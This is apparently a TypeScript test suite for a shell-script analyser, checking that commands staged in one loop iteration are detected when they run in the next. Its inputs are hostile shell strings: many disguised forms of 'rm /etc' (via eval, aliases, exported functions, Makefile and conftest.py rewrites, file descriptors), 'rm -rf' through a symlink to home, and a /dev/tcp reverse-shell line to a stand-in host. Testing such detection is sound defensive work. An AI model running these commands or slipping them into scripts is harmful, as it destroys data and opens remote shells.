/** What a loop's body leaves behind for its next turn is seen there; a body that looks at nothing of it is followed once. */
import assert from 'node:assert/strict';
import { effects, read } from './reading.ts';

const starts = (script: string) => read(script).invocations.map(({ argv }) => argv.join(' '));

describe('command: loops', () => {
  for (const [name, script, wanted] of [
    ['a variable', 'for i in a b; do $x /etc; x=rm; done', 'rm /etc'],
    [
      'a variable that may be set first',
      'for i in a b; do if c; then x=ls; fi; $x /etc; x=rm; done',
      'rm /etc',
    ],
    [
      'a variable that is set to what it is',
      'x=ls; for i in a b; do if c; then x=ls; fi; $x /etc; x=rm; done',
      'rm /etc',
    ],
    ['a fallback', 'for i in a b; do ${x:-ls} /etc; x=rm; done', 'rm /etc'],
    ['a variable by another name', 'n=x; for i in a b; do ${!n} /etc; x=rm; done', 'rm /etc'],
    ['a variable in code', 'for i in a b; do eval "$x /etc"; x=rm; done', 'rm /etc'],
    ['a variable of the environment', `while read -r l; do sh -c '$x /etc'; export x=rm; done`, 'rm /etc'],
    ['an element', 'for i in a b; do ${a[0]} /etc; a[0]=rm; done', 'rm /etc'],
    ['separators', 'c=rm-x; while read -r l; do $c; IFS=-; done', 'rm x'],
    ['a parameter', 'while read -r l; do $1 /etc; set -- rm; done', '$1 /etc'],
    ['a function', 'while read -r l; do f /etc; f() { rm "$1"; }; done', 'rm /etc'],
    ['an alias', 'while read -r l; do f /etc; alias f=rm; done', 'rm /etc'],
    ['a file', `while read -r l; do sh s; echo 'rm /etc' > s; done`, 'rm /etc'],
    ['a file that is added to', `: > s; while read -r l; do sh s; echo 'rm /etc' >> s; done`, 'rm /etc'],
    ['a file, where no variable is set', `while c; do sh s; echo 'rm /etc' > s; done`, 'rm /etc'],
    ['what is added to a file', `while c; do sh s; echo 'rm /etc' >> s; done`, 'rm /etc'],
    [
      'a file that a program reads by its name',
      `while c; do make; printf 'a:\\n\\trm /etc\\n' > Makefile; done`,
      'rm /etc',
    ],
    [
      'a file that tests run',
      `while c; do pytest; echo 'import os; os.system("rm /etc")' > conftest.py; done`,
      'rm /etc',
    ],
    ['a descriptor', `while c; do sh <&3; exec 3<<< 'rm /etc'; done`, 'rm /etc'],
    ['a descriptor by its path', `while c; do . /dev/fd/3; exec 3<<< 'rm /etc'; done`, 'rm /etc'],
    ['an exported function', 'while c; do sh -c f; f() { rm /etc; }; export -f f; done', 'rm /etc'],
    [
      'what answers for unknown commands',
      'while c; do nosuch; command_not_found_handle() { rm /etc; }; done',
      'rm /etc',
    ],
    ['a program', 'while read -r l; do ./ls /etc; cp /bin/rm ls; done', './ls /etc'],
    ['a folder', 'while read -r l; do rm x; cd /etc; done', 'rm x'],
    [
      'the end of a function',
      'f() { while read -r l; do c && return; d=/etc; done; d=x; }; f; rm "$d"',
      'rm /etc',
    ],
    [
      'the end of the script',
      `trap 'rm "$d"' EXIT; while read -r l; do c && exit; d=/etc; done; d=x`,
      'rm /etc',
    ],
    [
      'the end of an outer loop',
      'while c; do while read -r l; do c && break 2; d=/etc; done; d=x; done; rm "$d"',
      'rm /etc',
    ],
  ] as const) {
    it(`sees ${name} of the turn before`, () =>
      assert.ok(starts(script).includes(wanted), `${starts(script)}`));
  }

  for (const [name, script, wanted] of [
    ['its own line', 'while read -r f; do gzip "$f"; done', ['read -r f', 'gzip $f']],
    ['its own values', 'while IFS= read -r f; do n=x; echo "$n"; done', ['read -r f', 'echo x']],
    [
      'one of several values',
      'while read -r f; do if c; then m=x; else m=y; fi; echo "$m"; done',
      ['read -r f', 'c', 'echo x', 'echo y'],
    ],
    ['its own descriptors', 'while c; do cat <&3; cat 4<<< x <&4; done', ['c', 'cat', 'cat']],
    [
      'process substitutions',
      'while c; do diff <(ls a) <(ls b); done',
      ['c', 'ls a', 'ls b', 'diff <(ls a) <(ls b)'],
    ],
    [
      'what it writes',
      'while read -r f; do date > log; cat log; date >> all; done',
      ['read -r f', 'date', 'cat log', 'date'],
    ],
  ] as const) {
    it(`is followed once where it looks at nothing but ${name}`, () =>
      assert.deepEqual(starts(script), wanted));
  }

  it('sees a link of the turn before', () =>
    assert.ok(
      effects('while c; do rm -rf x/*; ln -s ~ x; done').includes('delete -r /home/dev/app/x/* home!'),
    ));

  it('sees a socket of the turn before', () =>
    assert.ok(
      effects('while c; do bash <&5 >&5; exec 5<>/dev/tcp/x.example/80; done').includes(
        'execute x.example:80 host',
      ),
    ));
});
